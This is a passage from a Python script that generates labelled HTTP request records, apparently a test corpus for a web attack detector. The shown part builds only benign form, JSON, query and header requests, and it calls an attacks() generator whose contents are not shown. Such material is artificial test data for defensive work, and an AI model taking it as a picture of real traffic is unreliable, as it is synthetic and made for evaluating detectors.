        yield {**_form("/admin/users/search", [("csrf_token", "t0k3n"), ("name", name)]),
               "id": f"{NAME}-benign-names-{n:04d}", "category": "benign", "placement": "form"}
    for addr in ADDRESSES:
        n += 1
        yield {**_json("/api/users", {"name": "Ann", "address": addr}),
               "id": f"{NAME}-benign-address-{n:04d}", "category": "benign", "placement": "json"}
        n += 1
        yield {**_get(_query("/api/users", [("q", addr)])),
               "id": f"{NAME}-benign-address-{n:04d}", "category": "benign", "placement": "query"}
    for ua, ref in BROWSERS:
        for rec in (_with_headers(_get("/api/users?page=2"), **{"User-Agent": ua, "Referer": ref}),
                    _with_headers(_get(_query("/api/users", [("q", "script")])),
                                  **{"User-Agent": ua, "Cookie": "theme=dark; lang=en-GB; tz=Europe%2FLondon"})):
            n += 1
            yield {**rec, "id": f"{NAME}-benign-headers-{n:04d}", "category": "benign", "placement": "header"}


if __name__ == "__main__":
    print_records(attacks(), benign())
